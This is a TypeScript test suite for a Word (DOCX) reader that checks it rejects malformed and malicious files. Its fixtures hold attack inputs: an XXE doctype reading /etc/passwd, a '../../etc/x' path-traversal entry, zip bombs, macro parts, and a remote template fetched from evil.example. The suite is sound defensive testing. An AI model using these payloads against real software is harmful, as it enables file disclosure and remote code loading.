import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { readDocx } from '../../functions/media/word/docx.ts'
import { compoundFile } from '../support/documents/compound-file.ts'
import { aDocument, aDocx, p } from '../support/documents/docx.ts'
import { verdictOf } from '../support/media/verdict.ts'

describe('a file that is refused', () => {
  const codeOf = async (bytes: Uint8Array) =>
    (await verdictOf(readDocx(bytes, { pictureId: () => 'abcdefgh00' }))).code
  const good = aDocx({ body: p('Một') })
  const asWorkbook = (bytes: Uint8Array) => {
    const files = unzipSync(bytes)
    const types = strFromU8(files['[Content_Types].xml']!)
    const workbook = types.replace('wordprocessingml.document', 'spreadsheetml.sheet')
    return zipSync({ ...files, '[Content_Types].xml': strToU8(workbook) })
  }
  const nested = (depth: number) =>
    `${'<w:tbl><w:tr><w:tc>'.repeat(depth)}${p('x')}${'</w:tc></w:tr></w:tbl>'.repeat(depth)}`

  it.each<[string, string, () => Uint8Array]>([
    ['damaged', 'nothing', () => new Uint8Array()],
    ['damaged', 'no archive', () => strToU8('PK, but no archive')],
    ['damaged', 'an archive that was cut off', () => good.subarray(0, good.length - 40)],
    ['type_differs', 'an archive of something else', () => zipSync({ 'a.txt': strToU8('a') })],
    ['damaged', 'broken XML', () => aDocx({ body: '<w:p>' })],
    [
      'damaged',
      'a document type with entities',
      () => aDocx({ document: `<!DOCTYPE x [<!ENTITY a "b">]>${aDocument('')}` }),
    ],
    [
      'damaged',
      'a document type that asks for a file',
      () => aDocx({ document: `<!DOCTYPE x SYSTEM "file:///etc/passwd">${aDocument('')}` }),
    ],
    ['damaged', 'an entity of its own', () => aDocx({ body: '<w:p><w:r><w:t>&a;</w:t></w:r></w:p>' })],
    [
      'damaged',
      'letters that are no UTF-8',
      () => aDocx({ document: new Uint8Array([0x3c, 0x61, 0xff, 0xfe, 0x3e]) }),
    ],
    ['too_complex', '20,000 tables in each other', () => aDocx({ body: nested(20_000) })],
    ['too_complex', 'a million elements', () => aDocx({ body: '<w:p/>'.repeat(1_000_000) })],
    ['too_complex', 'a book', () => aDocx({ body: p('chữ '.repeat(150_000)) })],
    ['archive_size', 'a part that unpacks to much', () => aDocx({ document: new Uint8Array(30_000_000) })],
    [
      'archive_size',
      'an archive that unpacks to much',
      () => aDocx({ files: { 'word/media/x': new Uint8Array(201_000_000) } }),
    ],
    [
      'archive_count',
      '20,000 entries',
      () => aDocx({ files: Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`${i}`, ''])) }),
    ],
    ['archive_entry', 'a name that leads out', () => aDocx({ files: { '../../etc/x': 'x' } })],
    ['damaged', 'a second document behind the first', () => aDocx({ body: '</w:body></w:document><a/>' })],
    ['damaged', 'a prefix of no namespace', () => aDocx({ body: '<x:p/>' })],
    [
      'too_complex',
      'more elements in all parts together than one may have',
      () => aDocx({ body: '<w:p/>'.repeat(130_000), header: '<w:p/>'.repeat(130_000) }),
    ],
    ['type_differs', 'another document of Office', () => asWorkbook(good)],
    ['macros', 'macros', () => aDocx({ files: { 'word/vbaProject.bin': 'x' } })],
    [
      'macros',
      'a type for macros',
      () =>
        aDocx({
          types:
            '<Default Extension="x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
        }),
    ],
    [
      'remote_template',
      'a template from elsewhere, which brings its programs',
      () =>
        aDocx({
          files: {
            'word/_rels/settings.xml.rels': `<Relationships xmlns="urn:r"><Relationship Id="a" Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>`,
          },
        }),
    ],
  ])('is %s: %s', async (code, _what, make) => {
    expect(await codeOf(make())).toBe(code)
  })

  it('is one that was locked', async () => {
    const locked = Buffer.from(good)
    // The bit of encryption in the directory's first entry.
    locked[locked.indexOf(Buffer.from('PK\x01\x02', 'latin1')) + 8]! |= 1
    expect(await codeOf(locked)).toBe('encrypted')
  })

  const fib = Buffer.alloc(512)
  fib.writeUInt16LE(0xa5ec)

  it.each<[string, string, Record<string, Uint8Array>]>([
    [
      'encrypted',
      'a password locks, which makes another container of it',
      { EncryptedPackage: good, EncryptionInfo: fib },
    ],
    ['type_differs', 'an old Word wrote, under a new name', { WordDocument: fib }],
    ['macros', 'an old Word wrote, with macros', { WordDocument: fib, 'Macros/VBA/dir': fib }],
  ])('is %s: one that %s', async (code, _what, streams) => {
    expect(await codeOf(compoundFile(streams))).toBe(code)
  })

  it('is not one with tables as deep as people make them', async () => {
    expect(await codeOf(aDocx({ body: nested(20) }))).toBe('taken')
  })

  it('says so whatever byte of it is wrong', async () => {
    const { length } = good
    for (let at = 0; at < length; at += 7) {
      const changed = Uint8Array.from(good)
      changed[at]! ^= 0x55
      expect(await codeOf(changed)).toMatch(
        /^(?:taken|damaged|archive_\w+|encrypted|type_differs|macros|polyglot)$/,
      )
      expect(await codeOf(good.subarray(0, at))).toBe('damaged')
    }
  })
})
